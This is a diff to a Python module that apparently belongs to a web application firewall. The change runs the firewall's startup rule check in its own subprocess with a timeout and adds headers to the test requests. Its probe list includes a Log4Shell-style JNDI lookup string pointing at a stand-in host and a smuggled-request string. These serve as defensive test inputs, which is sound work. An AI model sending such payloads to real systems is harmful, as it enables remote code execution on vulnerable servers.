@@ -1,5 +1,10 @@
-"""Proof at the start that the rules work: a rule with a broken pattern loads without a word."""
+"""Proof at the start that the rules work: a rule with a broken pattern loads without a word.
 
+It is made in a process of its own first, since a faulty rule can spoil each later load or end the process.
+"""
+
+import subprocess
+import sys
 from collections.abc import Mapping
 from typing import Final
 from urllib.parse import quote
@@ -17,6 +22,7 @@ PROBES: Final[Mapping[str, str]] = {
     "Java": "${jndi:ldap://x.example/a}",
     "requests in requests": "GET /a HTTP/1.1",
 }
+LONGEST_TRIAL: Final = 60  # seconds
 HARMLESS: Final = ("Müller", "D'Angelo", "Straße des 17. Juni 135", "karl@example.de", "only")
 
 
@@ -31,5 +37,27 @@ def proven(engine: Engine) -> Engine:
     return engine
 
 
+def started(texts: tuple[str, ...]) -> Engine:
+    """The engine with these rules, tried in a process of its own before. Raises RulesRefused."""
+    order = (sys.executable, "-m", "modellkommune.firewall.proving")
+    try:
+        tried = subprocess.run(  # noqa: S603 -- our own program
+            order, input="\0".join(texts), text=True, capture_output=True, timeout=LONGEST_TRIAL, check=False
+        )
+    except subprocess.TimeoutExpired:
+        raise RulesRefused(f"the rules were not loaded within {LONGEST_TRIAL} seconds") from None
+    if tried.returncode:
+        raise RulesRefused(tried.stderr.strip() or f"the engine ended with status {tried.returncode}")
+    return proven(Engine(texts))
+
+
 def _asked(value: str) -> Inspected:
-    return Inspected("GET", f"/?probe={quote(value)}", "1.1", ((b"Host", b"localhost"),), b"", "127.0.0.1")
+    headers = ((b"Host", b"localhost"), (b"User-Agent", b"Mozilla/5.0"), (b"Accept", b"text/html"))
+    return Inspected("GET", f"/?probe={quote(value)}", "1.1", headers, b"", "127.0.0.1")
+
+
+if __name__ == "__main__":
+    try:
+        proven(Engine(sys.stdin.read().split("\0")))
+    except RulesRefused as refusal:
+        sys.exit(str(refusal))
